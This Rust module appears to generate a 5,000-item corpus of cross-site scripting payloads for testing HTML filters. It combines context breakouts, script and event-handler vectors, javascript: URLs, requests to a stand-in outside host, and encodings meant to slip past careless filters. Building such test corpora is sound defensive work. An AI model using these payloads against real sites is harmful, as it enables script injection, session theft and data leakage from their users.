//! Texts that would run a script, or ask something of another machine, where a page let them.
//!
//! Each is a way out of a place in a page, a way to run or to ask, and a way to write it that a careless filter lets
//! through: 20 × 25 × 10. A payload that runs calls `run(N)`; one that asks, asks `outside.example/N`.

/// How many there are.
pub(crate) const ALL: usize = OUT.len() * VECTORS.len() * WAYS.len();

/// Ways out of where a text may stand: an element, a quoted or bare attribute, a comment, a script, an address.
const OUT: [&str; 20] = [
    "",
    "\">",
    "'>",
    "`>",
    "\" x=\"",
    "' x='",
    " x ",
    "></a>",
    "</title>",
    "</textarea>",
    "</option></select>",
    "</script>",
    "</style>",
    "</td></tr></table>",
    "-->",
    "--!>",
    "]]>",
    "</svg>",
    "</noscript>",
    "\\\";",
];

/// Ways to run, or to ask. `N` is the number.
const VECTORS: [&str; 25] = [
    "<script>run(N)</script>",
    "<script>run`N`</script>",
    "<script src=http://outside.example/N></script>",
    "<img src=x onerror=run(N)>",
    "<img src=http://outside.example/N>",
    "<svg onload=run(N)>",
    "<svg><script>run(N)</script></svg>",
    "<svg><animate onbegin=run(N) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=run(N)>",
    "<iframe srcdoc=\"<script>parent.run(N)</script>\"></iframe>",
    "<iframe src=javascript:parent.run(N)></iframe>",
    "<object data=http://outside.example/N></object>",
    "<embed src=http://outside.example/N>",
    "<video><source onerror=run(N)></video>",
    "<details open ontoggle=run(N)><summary>x</summary></details>",
    "<input autofocus onfocus=run(N)>",
    "<style onload=run(N)>x{}</style>",
    "<style>@import 'http://outside.example/N';</style>",
    "<link rel=stylesheet href=http://outside.example/N>",
    "<meta http-equiv=refresh content=\"0;url=http://outside.example/N\">",
    "<p style=\"background:url(http://outside.example/N)\">x</p>",
    "<a href=javascript:run(N)>x</a>",
    "onmouseover=run(N) onfocus=run(N) autofocus tabindex=0",
    "javascript:run(N)",
    "{{constructor.constructor('run(N)')()}}${run(N)}{ $run }",
];

/// Ways to write it.
const WAYS: [fn(&str) -> String; 10] = [
    str::to_owned,
    |text| {
        text.replace("script", "ScRiPt")
            .replace("img", "IMG")
            .replace("svg", "SvG")
            .replace("onerror", "ONERROR")
    },
    |text| text.replace(' ', "/"),
    |text| text.replace(' ', "\t\n"),
    |text| text.replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;"),
    |text| text.replace('<', "&#60;").replace('>', "&#x3e;").replace('\'', "&#39;"),
    |text| text.replace('<', "%3C").replace('>', "%3E").replace('"', "%22"),
    |text| text.replace('<', "\\u003c").replace('>', "\\u003e"),
    |text| text.replace('<', "<\u{200f}<").replace("run", "\u{202e}run"),
    |text| text.replace('<', "＜<").replace('>', ">＞"),
];

/// The payload with a place in the list, written with a number of its own, which it shows.
pub(crate) fn payload(place: usize, number: usize) -> String {
    let out = OUT[place % OUT.len()];
    let vector = VECTORS[place / OUT.len() % VECTORS.len()];
    let way = WAYS[place / (OUT.len() * VECTORS.len()) % WAYS.len()];
    let written = way(&format!("{out}{vector}"));
    format!("{} ~{number}~", written.replace('N', &number.to_string()))
}

#[test]
fn there_are_five_thousand_and_no_two_are_alike() {
    let all: std::collections::BTreeSet<String> = (0..ALL).map(|place| payload(place, 0)).collect();
    assert_eq!(ALL, 5_000);
    // A way of writing that finds nothing to change gives the same text again.
    assert!(all.len() > 4_000, "{}", all.len());
}
